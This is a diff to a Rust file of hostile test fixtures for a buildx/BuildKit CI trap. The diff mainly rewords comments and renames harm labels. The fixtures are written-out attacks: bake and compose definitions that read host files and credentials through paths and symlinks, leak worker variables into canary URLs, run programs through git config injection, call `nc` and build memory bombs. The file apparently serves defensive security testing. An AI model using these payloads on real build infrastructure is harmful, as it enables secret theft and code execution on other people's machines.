@@ -1,7 +1,7 @@
-//! Definitions and repositories of an enemy.
+//! Hostile definitions and repositories.
 //!
-//! `@WORD@` is filled in from the trap of each run: `@OUTSIDE@` is a directory outside of the worktree, `@BELL@` a port of
-//! the machine, `@VARIABLE@` the name of a variable of the worker's, `@FRONTEND@` the frontend that the account `pinned` has.
+//! The trap of each run replaces each `@WORD@`. `@OUTSIDE@` is a directory outside the worktree, `@CANARY@` a port of the
+//! machine, `@VARIABLE@` the name of a variable of the worker, `@FRONTEND@` the frontend of the account `pinned`.
 
 use std::process::{Command, Stdio};
 
@@ -11,25 +11,25 @@ use super::trap::Harm;
 
 pub struct Fixture {
     pub name: &'static str,
-    /// What it is after.
+    /// The attack's target.
     pub aim: &'static str,
-    /// What a careless worker suffers; or why it does not, with this version of buildx and BuildKit.
+    /// The harm to a careless worker, or the reason why this version of buildx and BuildKit prevents it.
     pub harm: Result<Harm, &'static str>,
     /// The definition in the repository.
     pub file: &'static str,
     pub tree: Vec<Entry>,
     pub account: &'static str,
-    /// Whether it is a fork's, for which its account's rights are not.
+    /// Whether it comes from a fork, which does not have its account's rights.
     pub is_forks: bool,
-    /// Where the job says that it was pushed.
+    /// The ref that the job gives.
     pub reference: &'static str,
-    /// What somebody else has built before.
+    /// What another account built before.
     pub neighbour: Option<Value>,
-    /// Whether outputs are what it is about; elsewhere nothing is written, to save time.
+    /// Whether it needs outputs. Other fixtures write none, to save time.
     pub has_outputs: bool,
-    /// Whether the harm is done when it has been printed.
+    /// Whether `--print` already does the harm.
     pub is_printed_only: bool,
-    /// Whether it is after the worker's machine, while it is built: then one wall is not enough.
+    /// Whether it attacks the worker's machine during the build, which then needs two walls.
     pub is_dangerous: bool,
 }
 
@@ -47,13 +47,13 @@ pub enum Kind {
 }
 
 const DOCKERFILE: &str = "COPY . /srv\n";
-/// Shows what it finds where the definition has put somebody's directory.
+/// A step that prints what it finds in the directory of another account.
 const SHOWING: &str = "FROM @BASE@\nENV NONCE=@NONCE@\nCOPY secret /srv/secret\nRUN cat /srv/secret\n";
 const SHOWING_SECRET: &str = "RUN --mount=type=secret,id=x cat /run/secrets/x\n";
 const RUN_CANARY: &str = "touch @OUTSIDE@/ran";
 
 impl Fixture {
-    /// A repository with `docker-bake.json` of one target, whose context is `app` unless it says otherwise.
+    /// A repository with a `docker-bake.json` of one target. Its default context is `app`.
     fn json(name: &'static str, aim: &'static str, harm: Harm, target: Value) -> Self {
         let mut fields = json!({"context": "./app"});
         fields.as_object_mut().unwrap().extend(target.as_object().unwrap().clone());
@@ -61,19 +61,20 @@ impl Fixture {
         Self::new(name, aim, harm, "docker-bake.json", &definition).dockerfile(DOCKERFILE)
     }
 
-    /// A bake file with this text, which has done its harm when it is printed.
+    /// A bake file with this text, which does its harm in `--print`.
     fn hcl(name: &'static str, aim: &'static str, harm: Harm, text: &str) -> Self {
         Self::new(name, aim, harm, "docker-bake.hcl", text).dockerfile(DOCKERFILE).printed_only()
     }
 
-    /// A compose file of one service, with more of its own and of the file's, and `LOOT` as an argument without a value.
+    /// A compose file of one service, with more fields for the service and the file, and with `LOOT` as an argument
+    /// without a value.
     fn compose(name: &'static str, aim: &'static str, harm: Harm, of_service: &str, of_file: &str) -> Self {
         let text = format!("services:\n  web:\n    build: {{context: ./app, args: [LOOT]}}\n{of_service}{of_file}");
         Self::new(name, aim, harm, "compose.yaml", &text).dockerfile("ARG LOOT\nRUN echo \"$LOOT\"\n").printed_only()
     }
 
-    /// A context that is itself the inside of a git repository with this configuration. `worktree`, because buildx asks
-    /// first whether it is in a worktree; and it lacks its commit, so that git asks the "remote" for it.
+    /// A context that is the inside of a git repository with this configuration. It has `worktree`, because buildx
+    /// first checks for a worktree. It lacks its commit, so that git requests it from the "remote".
     fn git(name: &'static str, aim: &'static str, url: &str, more: &str) -> Self {
         let config = format!(
             "[core]\n\trepositoryformatversion = 1\n\tworktree = .\n[extensions]\n\tpartialClone = origin\n\
@@ -126,7 +127,7 @@ impl Fixture {
         self
     }
 
-    /// `app/Dockerfile`, on the base image; no cache knows its steps.
+    /// `app/Dockerfile` on the base image. No cache knows its steps.
     fn dockerfile(self, steps: &str) -> Self {
         self.with("app/Dockerfile", &format!("FROM @BASE@\nENV NONCE=@NONCE@\n{steps}"))
     }
@@ -143,12 +144,12 @@ impl Fixture {
         Self { account, ..self }
     }
 
-    /// Of an account that may ask for everything, but in a fork.
+    /// From a fork of an account that may request everything.
     fn fork(self) -> Self {
         Self { account: "entitled", is_forks: true, ..self }
     }
 
-    /// The same where the job names something else than a branch, and says that its author is trusted.
+    /// A fork whose job names a ref other than a branch, and says that it trusts its author.
     fn of(self, reference: &'static str) -> Self {
         Self { reference, ..self.fork() }
     }
@@ -157,7 +158,7 @@ impl Fixture {
         Self { neighbour: Some(neighbour), ..self }
     }
 
-    /// The harm does not happen, for this reason.
+    /// Says why the harm does not happen.
     fn harmless(self, why: &'static str) -> Self {
         Self { harm: Err(why), ..self }
     }
@@ -169,24 +170,24 @@ pub fn all() -> Vec<Fixture> {
     of_worker.chain([bombs(), remotes(), of_others(), rest(), of_forks()].into_iter().flatten()).collect()
 }
 
-/// No attack: what a step of anybody's says is heard.
+/// Not an attack: shows that the trap detects the output of a step.
 pub fn ordinary() -> Fixture {
-    Fixture::json("ordinary", "nothing", Harm::Told, json!({})).dockerfile("RUN echo MARK\"\"-@NONCE@\n")
+    Fixture::json("ordinary", "nothing", Harm::Leaked, json!({})).dockerfile("RUN echo MARK\"\"-@NONCE@\n")
 }
 
-/// Files of the host, by every field that can name one.
+/// Files of the host, through every field that can name one.
 fn files() -> Vec<Fixture> {
-    use Harm::{Read, Told};
+    use Harm::{Leaked, Read};
     let inline = |context: &str| json!({"context": context, "dockerfile-inline": SHOWING});
     let host = "COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n";
     vec![
-        Fixture::json("context_absolute", "a directory of the host as context", Told, inline("@OUTSIDE@")),
-        Fixture::json("context_above", "the same by `..`", Told, inline("@UP@@OUTSIDE@")),
-        Fixture::json("context_cwd", "the same by `cwd://`", Told, inline("cwd://@UP@@OUTSIDE@")),
+        Fixture::json("context_absolute", "a directory of the host as context", Leaked, inline("@OUTSIDE@")),
+        Fixture::json("context_above", "the same by `..`", Leaked, inline("@UP@@OUTSIDE@")),
+        Fixture::json("context_cwd", "the same by `cwd://`", Leaked, inline("cwd://@UP@@OUTSIDE@")),
         Fixture::json(
             "named_context_absolute",
             "a directory of the host as named context",
-            Told,
+            Leaked,
             json!({"contexts": {"host": "@OUTSIDE@"}}),
         )
         .dockerfile(host),
@@ -200,24 +201,24 @@ fn files() -> Vec<Fixture> {
         Fixture::json(
             "dockerfile_absolute",
             "a file of the host as Dockerfile",
-            Told,
+            Leaked,
             json!({"dockerfile": "@OUTSIDE@/Dockerfile"}),
         ),
-        Fixture::json("dockerfile_above", "the same by `..`", Told, json!({"dockerfile": "@UP@@OUTSIDE@/Dockerfile"})),
+        Fixture::json(
+            "dockerfile_above",
+            "the same by `..`",
+            Leaked,
+            json!({"dockerfile": "@UP@@OUTSIDE@/Dockerfile"}),
+        ),
         Fixture::json(
             "secret_src",
             "a file of the host as secret",
-            Told,
+            Leaked,
             json!({"secret": ["id=x,src=@OUTSIDE@/secret"]}),
         )
         .dockerfile(SHOWING_SECRET),
-        Fixture::json(
-            "secret_id_path",
-            "the same by nothing but its id",
-            Told,
-            json!({"secret": ["id=@OUTSIDE@/secret"]}),
-        )
-        .dockerfile("RUN --mount=type=secret,id=@OUTSIDE@/secret,target=/loot cat /loot\n"),
+        Fixture::json("secret_id_path", "the same by its id alone", Leaked, json!({"secret": ["id=@OUTSIDE@/secret"]}))
+            .dockerfile("RUN --mount=type=secret,id=@OUTSIDE@/secret,target=/loot cat /loot\n"),
         Fixture::json(
             "ssh_key",
             "a file of the host as key",
@@ -234,37 +235,37 @@ fn files() -> Vec<Fixture> {
     ]
 }
 
-/// What compose reads while it is printed.
+/// Files that compose reads during `--print`.
 fn compose_files() -> Vec<Fixture> {
-    use Harm::{Read, Told};
+    use Harm::{Leaked, Read};
     let of_secret =
         "services:\n  web:\n    build: {context: ./app, secrets: [x]}\nsecrets:\n  x: {file: @OUTSIDE@/secret}\n";
     vec![
         Fixture::compose(
             "compose_env_file",
             "variables from a file of the host",
-            Told,
+            Leaked,
             "    env_file: @OUTSIDE@/variables\n",
             "",
         ),
         Fixture::compose(
             "compose_env_file_above",
             "the same by `..`",
-            Told,
+            Leaked,
             "    env_file: [{path: @UP@@OUTSIDE@/variables}]\n",
             "",
         ),
         Fixture::compose(
             "compose_include",
             "another compose file of the host",
-            Told,
+            Leaked,
             "",
             "include: [@OUTSIDE@/compose.yml]\n",
         ),
         Fixture::compose(
             "compose_include_env_file",
             "variables from a file of the host for an included file",
-            Told,
+            Leaked,
             "",
             "include: [{path: ./more.yml, env_file: @OUTSIDE@/variables}]\n",
         )
@@ -272,7 +273,7 @@ fn compose_files() -> Vec<Fixture> {
         Fixture::new(
             "compose_extends",
             "a service of another compose file of the host",
-            Told,
+            Leaked,
             "compose.yaml",
             "services:\n  web:\n    extends: {file: @OUTSIDE@/compose.yml, service: stolen}\n    build: {context: ./app}\n",
         )
@@ -285,41 +286,41 @@ fn compose_files() -> Vec<Fixture> {
             "    label_file: @OUTSIDE@/variables\n",
             "",
         )
-        .harmless("a service's labels are no image's, and the file is not read"),
-        Fixture::new("compose_secret_file", "a file of the host as secret", Told, "compose.yaml", of_secret)
+        .harmless("a service's labels are not an image's, and buildx does not read the file"),
+        Fixture::new("compose_secret_file", "a file of the host as secret", Leaked, "compose.yaml", of_secret)
             .dockerfile(SHOWING_SECRET),
         Fixture::new(
             "compose_additional_context",
             "a directory of the host as named context",
-            Told,
+            Leaked,
             "compose.yaml",
             "services:\n  web:\n    build: {context: ./app, additional_contexts: {host: @OUTSIDE@}}\n",
         )
         .dockerfile("COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n"),
         Fixture::compose(
             "compose_remote_include",
-            "an include from somewhere else",
-            Harm::Rang,
+            "an include from a remote source",
+            Harm::Connected,
             "",
-            "include: [\"http://@BELL@/x.git\"]\n",
+            "include: [\"http://@CANARY@/x.git\"]\n",
         )
-        .harmless("this buildx has no loader for them, and looks for a file of that name"),
+        .harmless("this buildx has no loader for them, and looks for a file with that name"),
     ]
 }
 
 /// Symbolic links at every level.
 fn links() -> Vec<Fixture> {
-    use Harm::Told;
+    use Harm::Leaked;
     let inline = |context: &str| json!({"context": context, "dockerfile-inline": SHOWING});
     let compose = "services:\n  web:\n    build: {context: ./app, args: [LOOT]}\n";
     vec![
-        Fixture::json("context_link", "a context that is a link", Told, inline("out")).link("out", "@OUTSIDE@"),
-        Fixture::json("context_below_link", "a context behind a link", Told, inline("out/sub"))
+        Fixture::json("context_link", "a context that is a link", Leaked, inline("out")).link("out", "@OUTSIDE@"),
+        Fixture::json("context_below_link", "a context behind a link", Leaked, inline("out/sub"))
             .link("out", "@OUTSIDE@"),
         Fixture::json(
             "named_context_link",
             "a named context that is a link",
-            Told,
+            Leaked,
             json!({"contexts": {"host": "out"}}),
         )
         .link("out", "@OUTSIDE@")
@@ -327,54 +328,54 @@ fn links() -> Vec<Fixture> {
         Fixture::json(
             "dockerfile_behind_link",
             "a Dockerfile behind a link",
-            Told,
+            Leaked,
             json!({"dockerfile": "../out/Dockerfile"}),
         )
         .link("out", "@OUTSIDE@"),
-        Fixture::json("dockerfile_link", "a Dockerfile that is a link", Told, json!({"dockerfile": "Linked"}))
+        Fixture::json("dockerfile_link", "a Dockerfile that is a link", Leaked, json!({"dockerfile": "Linked"}))
             .link("app/Linked", "@OUTSIDE@/Dockerfile")
             .harmless("buildx sends the link, which leads nowhere in the builder"),
-        Fixture::json("file_link", "a link in a context", Told, json!({}))
+        Fixture::json("file_link", "a link in a context", Leaked, json!({}))
             .link("app/secret", "@OUTSIDE@/secret")
             .dockerfile("COPY . /srv\nRUN cat /srv/secret || true\nCOPY secret /srv/again\nRUN cat /srv/again\n")
             .harmless("buildx sends the link, which leads nowhere in the builder"),
-        Fixture::json("dockerignore_link", "a .dockerignore that is a link", Told, json!({}))
+        Fixture::json("dockerignore_link", "a .dockerignore that is a link", Leaked, json!({}))
             .link("app/.dockerignore", "@OUTSIDE@/variables")
             .harmless("buildx sends the link, which leads nowhere in the builder"),
-        Fixture::json("secret_link", "a secret that is a link", Told, json!({"secret": ["id=x,src=out"]}))
+        Fixture::json("secret_link", "a secret that is a link", Leaked, json!({"secret": ["id=x,src=out"]}))
             .link("out", "@OUTSIDE@/secret")
             .dockerfile(SHOWING_SECRET),
         Fixture::compose(
             "compose_env_file_link",
             "a file of variables that is a link",
-            Told,
+            Leaked,
             "    env_file: ./variables\n",
             "",
         )
         .link("variables", "@OUTSIDE@/variables"),
-        Fixture::compose("compose_dot_env_link", "a .env that is a link", Told, "", "")
+        Fixture::compose("compose_dot_env_link", "a .env that is a link", Leaked, "", "")
             .link(".env", "@OUTSIDE@/variables"),
         Fixture::compose(
             "compose_include_link",
             "an included file that is a link",
-            Told,
+            Leaked,
             "",
             "include: [./more.yml]\n",
         )
         .link("more.yml", "@OUTSIDE@/compose.yml"),
-        Fixture::new("definition_link", "a compose file that is a link", Told, "compose.yaml", compose)
+        Fixture::new("definition_link", "a compose file that is a link", Leaked, "compose.yaml", compose)
             .dockerfile("ARG LOOT\n")
             .without("compose.yaml")
             .link("compose.yaml", "@OUTSIDE@/compose.yml")
             .printed_only(),
-        Fixture::new("definition_behind_link", "a compose file behind a link", Told, "out/compose.yml", compose)
+        Fixture::new("definition_behind_link", "a compose file behind a link", Leaked, "out/compose.yml", compose)
             .without("out/compose.yml")
             .link("out", "@OUTSIDE@")
             .printed_only(),
         Fixture::new(
             "definition_link_shown",
-            "a link to what is no definition: its lines are shown",
-            Told,
+            "a link to a file that is not a definition: buildx prints its lines",
+            Leaked,
             "docker-bake.hcl",
             "",
         )
@@ -395,7 +396,7 @@ fn outputs() -> Vec<Fixture> {
             .printed_only(),
         output("output_oci", "an image opened for writing on the host", "type=oci,dest=@OUTSIDE@/loot.oci")
             .printed_only(),
-        output("output_docker", "the same in docker's form", "type=docker,dest=@OUTSIDE@/loot.docker").printed_only(),
+        output("output_docker", "the same in docker's format", "type=docker,dest=@OUTSIDE@/loot.docker").printed_only(),
         output("output_over_file", "a file of the host overwritten", "type=tar,dest=@OUTSIDE@/secret").printed_only(),
         output("output_local_behind_link", "a directory written behind a link", "type=local,dest=out/loot")
             .link("out", "@OUTSIDE@"),
@@ -408,32 +409,32 @@ fn outputs() -> Vec<Fixture> {
     ]
 }
 
-/// Variables of the worker, by every field that can name one.
+/// Variables of the worker, through every field that can name one.
 fn environment() -> Vec<Fixture> {
-    use Harm::Told;
+    use Harm::Leaked;
     let variable = "variable \"@VARIABLE@\" {}\n";
     let target = |fields: &str| format!("{variable}target \"default\" {{\n  context = \"./app\"\n  {fields}\n}}\n");
     let of_secret =
         "services:\n  web:\n    build: {context: ./app, secrets: [x]}\nsecrets:\n  x: {environment: @VARIABLE@}\n";
     vec![
-        Fixture::hcl("variable_in_argument", "a variable of the worker's in an argument", Told, &target("args = { LOOT = @VARIABLE@ }")),
-        Fixture::hcl("variable_in_tag", "the same in a tag", Told, &target("tags = [\"evil:${@VARIABLE@}\"]")),
-        Fixture::hcl("variable_in_key", "the same in the name of a label", Told, &target("labels = { \"${@VARIABLE@}\" = \"x\" }")),
-        Fixture::hcl("variable_in_context", "the same in the URL of a context", Told, &target("contexts = { x = \"http://@BELL@/${@VARIABLE@}\" }")),
+        Fixture::hcl("variable_in_argument", "a variable of the worker in an argument", Leaked, &target("args = { LOOT = @VARIABLE@ }")),
+        Fixture::hcl("variable_in_tag", "the same in a tag", Leaked, &target("tags = [\"evil:${@VARIABLE@}\"]")),
+        Fixture::hcl("variable_in_key", "the same in the name of a label", Leaked, &target("labels = { \"${@VARIABLE@}\" = \"x\" }")),
+        Fixture::hcl("variable_in_context", "the same in the URL of a context", Leaked, &target("contexts = { x = \"http://@CANARY@/${@VARIABLE@}\" }")),
         Fixture::new(
             "variable_in_json",
             "the same in JSON",
-            Told,
+            Leaked,
             "docker-bake.json",
             r#"{"variable": {"@VARIABLE@": {}}, "target": {"default": {"context": "./app", "args": {"LOOT": "${@VARIABLE@}"}}}}"#,
         )
         .dockerfile(DOCKERFILE)
         .printed_only(),
-        Fixture::compose("compose_interpolation", "the same by `${…}` in a compose file", Told, "    image: \"evil:${@VARIABLE@}\"\n", ""),
+        Fixture::compose("compose_interpolation", "the same by `${…}` in a compose file", Leaked, "    image: \"evil:${@VARIABLE@}\"\n", ""),
         Fixture::new(
             "compose_argument",
             "the same by an argument without a value",
-            Told,
+            Leaked,
             "compose.yaml",
             "services:\n  web:\n    build: {context: ./app, args: [@VARIABLE@]}\n",
         )
@@ -442,27 +443,27 @@ fn environment() -> Vec<Fixture> {
         Fixture::new(
             "compose_environment",
             "the same by a service's variable without a value",
-            Told,
+            Leaked,
             "compose.yaml",
             "services:\n  web:\n    environment: [@VARIABLE@]\n    build: {context: ./app, args: [@VARIABLE@]}\n",
         )
         .dockerfile(DOCKERFILE)
         .printed_only(),
-        Fixture::json("secret_env", "a variable of the worker's as secret", Told, json!({"secret": ["id=x,env=@VARIABLE@"]}))
+        Fixture::json("secret_env", "a variable of the worker as secret", Leaked, json!({"secret": ["id=x,env=@VARIABLE@"]}))
             .dockerfile(SHOWING_SECRET),
-        Fixture::json("secret_id_variable", "the same by nothing but its id", Told, json!({"secret": ["id=@VARIABLE@"]}))
+        Fixture::json("secret_id_variable", "the same by its id alone", Leaked, json!({"secret": ["id=@VARIABLE@"]}))
             .dockerfile("RUN --mount=type=secret,id=@VARIABLE@,target=/loot cat /loot\n"),
-        Fixture::new("compose_secret_environment", "the same in a compose file", Told, "compose.yaml", of_secret)
+        Fixture::new("compose_secret_environment", "the same in a compose file", Leaked, "compose.yaml", of_secret)
             .dockerfile(SHOWING_SECRET),
-        Fixture::json("ssh_agent", "the worker's ssh agent", Told, json!({"ssh": ["default"]}))
+        Fixture::json("ssh_agent", "the worker's ssh agent", Leaked, json!({"ssh": ["default"]}))
             .dockerfile("RUN --mount=type=ssh test -n \"$SSH_AUTH_SOCK\" && echo MARK\"\"-@NONCE@\n"),
-        Fixture::hcl("homedir", "where the worker's home is", Told, "target \"default\" {\n  context = \"./app\"\n  args = { LOOT = homedir() }\n}\n"),
-        Fixture::json("homedir_in_key", "the same in the name of a label", Told, json!({"labels": {"${homedir()}": "x"}}))
+        Fixture::hcl("homedir", "the path of the worker's home", Leaked, "target \"default\" {\n  context = \"./app\"\n  args = { LOOT = homedir() }\n}\n"),
+        Fixture::json("homedir_in_key", "the same in the name of a label", Leaked, json!({"labels": {"${homedir()}": "x"}}))
             .printed_only(),
     ]
 }
 
-/// Definitions that take all the time and memory there is.
+/// Definitions that use all available time and memory.
 fn bombs() -> Vec<Fixture> {
     let doublings: String =
         (1..30).map(|i| format!("variable \"v{i}\" {{ default = \"${{v{0}}}${{v{0}}}\" }}\n", i - 1)).collect();
@@ -489,46 +490,50 @@ fn bombs() -> Vec<Fixture> {
     ]
 }
 
-/// What is fetched from elsewhere, for the repository.
+/// Remote sources that buildx fetches for the repository.
 fn remotes() -> Vec<Fixture> {
-    use Harm::Rang;
-    let context = |name, aim, context: &str| Fixture::json(name, aim, Rang, json!({"context": context}));
+    use Harm::Connected;
+    let context = |name, aim, context: &str| Fixture::json(name, aim, Connected, json!({"context": context}));
     vec![
-        context("context_http", "an address inside as context", "http://@BELL@/context.tar"),
-        context("context_git", "the same by git", "git://@BELL@/x.git"),
-        context("context_https_fragment", "the same as a folder of a git repository", "https://@BELL@/x.git#main:app"),
+        context("context_http", "an internal address as context", "http://@CANARY@/context.tar"),
+        context("context_git", "the same by git", "git://@CANARY@/x.git"),
+        context(
+            "context_https_fragment",
+            "the same as a folder of a git repository",
+            "https://@CANARY@/x.git#main:app",
+        ),
         Fixture::json(
             "named_context_http",
             "the same as named context",
-            Rang,
-            json!({"contexts": {"x": "http://@BELL@/x.tar"}}),
+            Connected,
+            json!({"contexts": {"x": "http://@CANARY@/x.tar"}}),
         )
         .dockerfile("COPY --from=x / /srv\n"),
         Fixture::json(
             "dockerfile_http",
             "the same as Dockerfile",
-            Rang,
-            json!({"dockerfile": "http://@BELL@/Dockerfile"}),
+            Connected,
+            json!({"dockerfile": "http://@CANARY@/Dockerfile"}),
         )
-        .harmless("beside a local context it is a path like any other"),
-        Fixture::json("realm", "a registry that sends buildx for a token to an address inside", Rang, json!({}))
+        .harmless("with a local context, it is a path like any other"),
+        Fixture::json("realm", "a registry that sends buildx to an internal address for a token", Connected, json!({}))
             .with("app/Dockerfile", "FROM @EVIL_REGISTRY@/evil/x:1\n"),
     ]
 }
 
 /// Contexts that are git repositories, with each configuration that runs a program.
 fn git() -> Vec<Fixture> {
-    let none = "buildx asks git for nothing that runs it";
+    let none = "buildx runs no git command that uses it";
     let hook = format!("#!/bin/sh\n{RUN_CANARY}\n");
     vec![
         Fixture::git("git_uploadpack", "a program, by the remote of a partial clone", ".", &format!("\tuploadpack = \"{RUN_CANARY}; false\"\n")),
         Fixture::git("git_ssh_command", "a program, by core.sshCommand", "ssh://localhost/x", &format!("[core]\n\tsshCommand = \"{RUN_CANARY}; false\"\n")),
         Fixture::git("git_ext", "a program, by a URL of ext::", "ext::touch @OUTSIDE@/ran", "[protocol \"ext\"]\n\tallow = always\n"),
         Fixture::git("git_proxy", "a program, by core.gitProxy", "git://localhost/x", "[core]\n\tgitProxy = ./program\n"),
-        Fixture::git("git_credential_helper", "a program, by credential.helper", "http://@BELL@/x.git", &format!("[credential]\n\thelper = \"!{RUN_CANARY}; false\"\n")),
-        Fixture::git("git_askpass", "a program, by core.askPass", "http://@BELL@/x.git", "[core]\n\taskPass = ./program\n"),
-        Fixture::git("git_remote_http", "an address inside, by the remote of a partial clone", "http://@BELL@/x.git", "")
-            .harm(Harm::Rang),
+        Fixture::git("git_credential_helper", "a program, by credential.helper", "http://@CANARY@/x.git", &format!("[credential]\n\thelper = \"!{RUN_CANARY}; false\"\n")),
+        Fixture::git("git_askpass", "a program, by core.askPass", "http://@CANARY@/x.git", "[core]\n\taskPass = ./program\n"),
+        Fixture::git("git_remote_http", "an internal address, by the remote of a partial clone", "http://@CANARY@/x.git", "")
+            .harm(Harm::Connected),
         Fixture::git("git_fsmonitor", "a program, by core.fsmonitor", ".", &format!("[core]\n\tfsmonitor = \"{RUN_CANARY}; false\"\n"))
             .harmless(none),
         Fixture::git("git_hooks_path", "a program, by core.hooksPath", ".", "[core]\n\thooksPath = hooks\n")
@@ -571,9 +576,9 @@ fn signed_commit(mut fixture: Fixture) -> Fixture {
     fixture.with("app/refs/heads/main", &format!("{sha}\n"))
 }
 
-/// What belongs to others: names of images and caches, cached directories, secrets.
+/// Property of other accounts: names of images and caches, cached directories, secrets.
 fn of_others() -> Vec<Fixture> {
-    use Harm::{Pushed, Told};
+    use Harm::{Leaked, Pushed};
     let cached = "RUN --mount=type=cache,id=@NONCE@,target=/c cat /c/loot || true\n";
     let neighbour = |args: Value| {
         let steps = "FROM @BASE@\nRUN --mount=type=cache,id=@NONCE@,target=/c echo MARK-@NONCE@ > /c/loot\n";
@@ -583,7 +588,7 @@ fn of_others() -> Vec<Fixture> {
     vec![
         Fixture::json(
             "tag",
-            "an image pushed over somebody else's",
+            "an image pushed over another account's",
             Pushed,
             json!({"tags": ["@FOREIGN@"], "output": ["type=registry"]}),
         )
@@ -597,28 +602,28 @@ fn of_others() -> Vec<Fixture> {
         .outputs(),
         Fixture::json(
             "cache_to_registry",
-            "a cache over somebody else's",
+            "a cache over another account's",
             Pushed,
             json!({"cache-to": ["type=registry,ref=@FOREIGN@"]}),
         ),
-        Fixture::json("cache_mount", "somebody else's cached directory", Told, json!({}))
+        Fixture::json("cache_mount", "another account's cached directory", Leaked, json!({}))
             .dockerfile(cached)
             .after(neighbour(json!({}))),
-        Fixture::json("cache_mount_namespace", "the same, in its namespace", Told, json!({"args": namespace}))
+        Fixture::json("cache_mount_namespace", "the same, in its namespace", Leaked, json!({"args": namespace}))
             .dockerfile(cached)
             .after(neighbour(namespace.clone())),
         Fixture::json(
             "git_auth_token",
-            "a token for whoever asks",
-            Told,
+            "a token for any host that asks",
+            Leaked,
             json!({"secret": ["id=GIT_AUTH_TOKEN,env=@VARIABLE@"]}),
         )
-        .dockerfile("ADD http://@BELL@/x.git /srv\n"),
-        // Who follows the link finds a file of the repository; buildx folds the path as text, and is outside of it.
+        .dockerfile("ADD http://@CANARY@/x.git /srv\n"),
+        // Following the link leads to a file of the repository. buildx folds the path as text, which leads outside.
         Fixture::json(
             "credentials_as_dockerfile",
             "the job's own registry credentials as Dockerfile, behind a link and `..`",
-            Told,
+            Leaked,
             json!({"dockerfile": "deep/../../../../docker/config.json"}),
         )
         .link("app/deep", "a/b/c/d")
@@ -627,138 +632,143 @@ fn of_others() -> Vec<Fixture> {
     ]
 }
 
-/// What an account has that its forks have not.
+/// Rights that an account has and its forks do not.
 fn of_forks() -> Vec<Fixture> {
-    use Harm::{Rang, Told};
-    let knock = "echo | nc -w 2 127.0.0.1 @BELL_PORT@ || true\n";
+    use Harm::{Connected, Leaked};
+    let connect = "echo | nc -w 2 127.0.0.1 @CANARY_PORT@ || true\n";
     vec![
         Fixture::json(
             "fork_network_host",
             "the builder's own network, which only its account has",
-            Rang,
+            Connected,
             json!({"network": "host"}),
         )
-        .dockerfile(&format!("RUN {knock}"))
+        .dockerfile(&format!("RUN {connect}"))
         .fork(),
         Fixture::json(
             "fork_entitlement_network",
             "the same for one step",
-            Rang,
+            Connected,
             json!({"entitlements": ["network.host"]}),
         )
-        .dockerfile(&format!("RUN --network=host {knock}"))
+        .dockerfile(&format!("RUN --network=host {connect}"))
         .fork(),
         Fixture::json(
             "fork_entitlement_insecure",
             "a step with all rights, which only its account has",
-            Told,
+            Leaked,
             json!({"entitlements": ["security.insecure"]}),
         )
         .dockerfile("RUN --security=insecure echo MARK\"\"-@NONCE@\n")
         .fork()
-        .harmless("a BuildKit that is not told to does not grant it"),
+        .harmless("BuildKit does not grant it by default"),
         Fixture::json(
             "fork_context_http",
             "a remote context, which only its account has",
-            Rang,
-            json!({"context": "http://@BELL@/context.tar"}),
+            Connected,
+            json!({"context": "http://@CANARY@/context.tar"}),
         )
         .fork(),
         Fixture::json(
             "fork_named_context_http",
             "the same as named context",
-            Rang,
-            json!({"contexts": {"x": "http://@BELL@/x.tar"}}),
+            Connected,
+            json!({"contexts": {"x": "http://@CANARY@/x.tar"}}),
         )
         .dockerfile("COPY --from=x / /srv\n")
         .fork(),
         Fixture::json(
             "fork_by_pull_request",
             "the builder's own network, for a pull request that the job trusts",
-            Rang,
+            Connected,
             json!({"network": "host"}),
         )
-        .dockerfile(&format!("RUN {knock}"))
+        .dockerfile(&format!("RUN {connect}"))
         .of("pull/7/head"),
         Fixture::json(
             "fork_by_short_name",
             "the same for a name that could be a branch's",
-            Rang,
+            Connected,
             json!({"network": "host"}),
         )
-        .dockerfile(&format!("RUN {knock}"))
+        .dockerfile(&format!("RUN {connect}"))
         .of("main"),
     ]
 }
 
-/// What asks the builder for more than a build.
+/// Attacks that request more from the builder than a build.
 fn rest() -> Vec<Fixture> {
-    use Harm::{Rang, Told};
-    let knock = "echo | nc -w 2 127.0.0.1 @BELL_PORT@ || true\n";
+    use Harm::{Connected, Leaked};
+    let connect = "echo | nc -w 2 127.0.0.1 @CANARY_PORT@ || true\n";
     vec![
-        Fixture::json("network_host", "the builder's own network", Rang, json!({"network": "host"}))
-            .dockerfile(&format!("RUN {knock}")),
-        Fixture::json("entitlement_network", "the same for one step", Rang, json!({"entitlements": ["network.host"]}))
-            .dockerfile(&format!("RUN --network=host {knock}")),
+        Fixture::json("network_host", "the builder's own network", Connected, json!({"network": "host"}))
+            .dockerfile(&format!("RUN {connect}")),
+        Fixture::json(
+            "entitlement_network",
+            "the same for one step",
+            Connected,
+            json!({"entitlements": ["network.host"]}),
+        )
+        .dockerfile(&format!("RUN --network=host {connect}")),
         Fixture::json(
             "entitlement_insecure",
             "a step with all rights",
-            Told,
+            Leaked,
             json!({"entitlements": ["security.insecure"]}),
         )
         .dockerfile("RUN --security=insecure echo MARK\"\"-@NONCE@\n")
-        .harmless("a BuildKit that is not told to does not grant it"),
+        .harmless("BuildKit does not grant it by default"),
         Fixture::json(
             "attest_generator",
             "an image of the repository's choice, run beside the build",
-            Rang,
-            json!({"attest": ["type=sbom,generator=@BELL@/evil/generator:1"]}),
+            Connected,
+            json!({"attest": ["type=sbom,generator=@CANARY@/evil/generator:1"]}),
         ),
         Fixture::json(
             "attest_argument",
             "the same by an argument",
-            Rang,
-            json!({"args": {"BUILDKIT_ATTEST_SBOM": "generator=@BELL@/evil/generator:1"}}),
+            Connected,
+            json!({"args": {"BUILDKIT_ATTEST_SBOM": "generator=@CANARY@/evil/generator:1"}}),
         ),
         Fixture::json(
             "attest_argument_spelled",
             "the same by an argument in other letters and quotes",
-            Rang,
-            json!({"args": {"BUILDKIT_ATTEST_sBoM": "\"generator=@BELL@/evil/generator:1\""}}),
+            Connected,
+            json!({"args": {"BUILDKIT_ATTEST_sBoM": "\"generator=@CANARY@/evil/generator:1\""}}),
         ),
         Fixture::json(
             "frontend_argument",
             "a frontend of the repository's choice",
-            Rang,
-            json!({"args": {"BUILDKIT_SYNTAX": "@BELL@/evil/frontend:1"}}),
+            Connected,
+            json!({"args": {"BUILDKIT_SYNTAX": "@CANARY@/evil/frontend:1"}}),
         )
         .account("pinned"),
-        Fixture::json("frontend_comment", "the same by `# syntax=`", Rang, json!({}))
